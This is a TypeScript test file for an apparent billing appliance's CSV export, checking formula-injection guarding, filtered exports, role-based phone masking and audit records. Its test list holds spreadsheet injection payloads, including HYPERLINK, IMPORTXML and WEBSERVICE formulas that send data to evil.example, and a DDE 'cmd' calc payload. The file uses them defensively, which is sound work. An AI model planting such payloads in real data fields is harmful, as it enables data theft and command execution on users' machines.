import test from 'ava'
import * as fc from 'fast-check'
import { accountNo } from '../../appliance/account-no.ts'
import { csvCell, csvFile, csvLine, money, unguarded } from '../../web/csv.ts'
import { addCustomer } from '../support/factories.ts'
import { openDoor, signedIn } from './door.ts'
import { openHotspotDay } from './hotspot-day.ts'
import { hireStaff, openKilima } from './kilima.ts'

const door = await openDoor()
const { appliance, clock, origin } = door
const { db } = appliance
await hireStaff(appliance)
await openKilima(appliance, clock)
await openHotspotDay({ appliance, clock })
const finance = await signedIn(origin, 'finance')
const auditor = await signedIn(origin, 'auditor')
test.after.always(() => door.close())

async function* rows() {
  yield [['Njeri']]
}

/** RFC 4180, as a spreadsheet reads it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, cell, end] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g)) {
    row.push(cell!.replaceAll('""', '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

// What a spreadsheet would run, or fetch, or take for a figure of ours.
const formulas = [
  '=1+1', '=HYPERLINK("https://evil.example/?x="&A1,"Pay")', '=cmd|\' /C calc\'!A0', '+254712344318', '-2+3+cmd|x', '@SUM(1+1)*cmd|x',
  '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\u202e=1+1', '\ufeff=1+1',
  "'=1+1", '"=1+1', "''quoted", '\t', '=', '-', '=IMPORTXML("https://evil.example","//a")', '=WEBSERVICE("https://evil.example")', '%0A=1+1',
] // prettier-ignore

test('T37: no cell begins like a formula, and read again it is what it was', async (t) => {
  for (const words of formulas) {
    const [[cell]] = readCsv(csvLine([words])) as [[string]]
    t.notRegex(cell, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^\p{Cc}/u, words)
    t.is(unguarded(cell), words, words)
  }
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 20 }), { minLength: 1 }), (cells) => {
      const [row] = readCsv(csvLine(cells))
      t.deepEqual(row!.map(unguarded), cells)
      for (const cell of row!) t.notRegex(cell, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u)
    }),
  )
  t.is(csvCell(money(-5)), '"-0.05"')
  t.is(csvCell(money(1500_00)), '"1500.00"')
  t.is(csvCell(null), '""')
  const chunks = await csvFile(['Name'], rows()).toArray()
  t.is(Buffer.concat(chunks).toString('hex'), Buffer.from('\ufeff"Name"\r\n"Njeri"\r\n').toString('hex'))
}) // prettier-ignore

async function save(path: string, fields = {}, visitor = finance) {
  const answer = await visitor.post(path, fields)
  t_ok(answer.status)
  return { ...answer, rows: readCsv(answer.html.replace(/^\ufeff/, '')) }
}
function t_ok(status: number): void {
  if (status !== 200) throw new Error(`the answer was ${status}`)
}

test.serial('T37: payers and subscribers who are called like formulas come out as words', async (t) => {
  for (const [index, name] of formulas.filter((words) => !words.includes('\0')).entries())
    await addCustomer(appliance, { name, account_no: accountNo(500_000 + index)! })
  await db('payments').where({ receipt_code: 'UKL4T8M2QX' }).update({ payer_name: '=HYPERLINK("https://evil.example")' })
  const { rows, headers, html } = await save('/subscribers/export?q=500')
  t.is(headers.get('content-type'), 'text/csv; charset=utf-8')
  t.is(headers.get('x-content-type-options'), 'nosniff')
  t.is(headers.get('content-disposition'), 'attachment; filename="subscribers-2026-11-21.csv"')
  t.is(headers.get('cache-control'), 'no-store')
  t.true(html.startsWith('"Account","Name"'))
  const names = rows.slice(1).map(([, name]) => name!)
  t.true(names.length >= 20)
  for (const name of names) t.notRegex(name, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u)
  t.true(names.map(unguarded).includes('=1+1'))
  t.is((await save('/payments/export?q=UKL4T8M2QX')).rows[1]![6], `'=HYPERLINK("https://evil.example")`)
}) // prettier-ignore

test.serial('S2-26…S2-36: a file holds the list as it was narrowed, every page of it', async (t) => {
  const { rows } = await save('/payments/export?days=today&state=excepted')
  const open = await db('payments').where({ state: 'excepted' }).where('heard_at', '>=', '2026-11-20T21:00:00Z').pluck('receipt_code')
  t.deepEqual(rows.slice(1).map(([code]) => code).sort(), open.sort())
  const [paid] = (await save('/payments/export?q=UJL7H3WP0D&days=ever')).rows.slice(1)
  t.deepEqual(paid!.slice(0, 6), ['UJL7H3WP0D', 'paybill by hand', '600966', paid![3], '2026-10-21 08:00:00', '1500.00'])
  const site_id = (await db('sites').first('id'))!.id
  await db.raw(`insert into subscribers (account_no, name, site_id, joined_at)
    select (6000000 + n)::text, 'Home ' || n, :site_id, '2026-11-01' from generate_series(1, 2345) n`, { site_id })
  const homes = (await save('/subscribers/export?q=home%20')).rows.slice(1)
  t.is(homes.length, 2345)
  t.is(new Set(homes.map(([account]) => account)).size, 2345)
  t.true((await save('/checkouts/export')).rows.length > 5)
  t.is((await save('/exceptions/export')).rows.length, 1 + (await db('exceptions').whereNull('resolved_at').pluck('id')).length)
}) // prettier-ignore

test.serial('T41: phones are covered, but for the books and who asks, and who took what is written down', async (t) => {
  const last = async () => (await db('audit').orderBy('id', 'desc').first())!
  const covered = await save('/subscribers/export?q=otieno')
  t.is(covered.rows[1]![2], '0710 ••• 318')
  t.like(await last(), { action: 'list.exported', subject: 'list:subscribers', after: { phones: 'covered', filters: { q: 'otieno' } } })
  const full = await save('/subscribers/export?q=otieno', { phones: 'full' })
  t.is(full.rows[1]![2], '254710000318')
  t.like(await last(), { after: { phones: 'in full' } })
  t.is((await save('/subscribers/export?q=otieno', { phones: 'full' }, auditor)).rows[1]![2], '0710 ••• 318')
  t.like(await last(), { after: { phones: 'covered' } })
  t.true((await auditor.get('/payments')).html.includes('action="/payments/export"'))
  const cashier = await signedIn(origin, 'cashier')
  t.false((await cashier.get('/payments')).html.includes('/payments/export'))
}) // prettier-ignore
